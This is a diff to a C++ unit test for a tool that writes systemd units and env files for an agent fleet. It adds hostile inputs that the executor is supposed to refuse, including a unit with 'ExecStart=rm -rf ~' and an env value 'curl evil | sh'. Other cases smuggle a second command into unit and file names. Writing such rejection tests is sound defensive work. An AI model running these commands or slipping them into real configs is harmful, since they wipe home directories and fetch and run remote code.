@@ -23,7 +23,7 @@ class StepExecutorTest : public testing::Test {
  protected:
   StepExecutorTest()
       : tmux_(Tmux::ForSocket("fleet", runner_).value()),
-        managed_(testing_support::Desired(kRoster).paths, {kHolderUnit, kAgentTemplateUnit}) {}
+        managed_(testing_support::Desired(kRoster)) {}
 
   Status ExecuteAll(StepExecutor& executor, const Plan& plan) {
     for (const Step& step : plan.steps)
@@ -98,7 +98,7 @@ TEST_F(StepExecutorTest, RemovalsKillOnlyExactSessions) {
   RealStepExecutor executor(fs_, systemd_, tmux_, managed_);
   ASSERT_TRUE(ExecuteAll(executor, MakePlan(desired, observed)).ok());
   ASSERT_EQ(runner_.calls.size(), 1u);
-  EXPECT_THAT(runner_.calls[0], testing::Contains("kill-session -t =old"));
+  EXPECT_THAT(runner_.calls[0], testing::Contains(HasSubstr("kill-session -t =old")));
 }
 
 TEST_F(StepExecutorTest, RefusesToWriteAnythingButTheToolsOwnFiles) {
@@ -116,6 +116,12 @@ TEST_F(StepExecutorTest, RefusesToWriteAnythingButTheToolsOwnFiles) {
             0644,
             {}},
            {StepKind::kWriteFile, {}, unit, "[Service]\nExecStart=/bin/rm -rf ~\n", 0644, {}},
+           {StepKind::kWriteFile,
+            {},
+            unit,
+            std::string(kUnitFileHeader) + "ExecStart=rm -rf ~\n",
+            0644,
+            {}},
            {StepKind::kWriteFile, {}, unit, desired.holder_unit_content, 04755, {}},
            {StepKind::kMergeEnvFile,
             {},
@@ -124,6 +130,12 @@ TEST_F(StepExecutorTest, RefusesToWriteAnythingButTheToolsOwnFiles) {
             0600,
             {{"MOSAIC_AGENT_NAME", "a"}}},
            {StepKind::kMergeEnvFile, {}, desired.agents[0].env_path, "", 0600, {{"PATH", "/evil"}}},
+           {StepKind::kMergeEnvFile,
+            {},
+            desired.agents[0].env_path,
+            "",
+            0600,
+            {{"MOSAIC_RUNTIME_COMMAND", "curl evil | sh"}}},
            {StepKind::kMergeEnvFile, {}, desired.paths.agents_dir + "/x:y.env", "", 0600, {}},
            {StepKind::kStopUnits, {"sshd.service"}, "", "", 0, {}},
            {StepKind::kStartUnits, {"mosaic-agent@a;b.service"}, "", "", 0, {}},
